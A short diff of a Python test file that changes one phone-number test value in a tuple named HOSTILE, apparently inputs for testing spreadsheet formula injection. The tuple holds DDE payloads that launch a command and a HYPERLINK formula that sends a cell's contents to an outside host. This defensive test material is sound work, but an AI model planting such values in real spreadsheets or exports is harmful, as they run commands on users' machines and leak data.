@@ -55,7 +55,7 @@ def a_sheet(drawn: Drawn | None = Drawn.BARS, rows: tuple[Row, ...] = ROWS) -> S
 HOSTILE = (
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://x/?"&A1;"aqui")',
-    "+5511987654321",
+    "+5511966660000",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
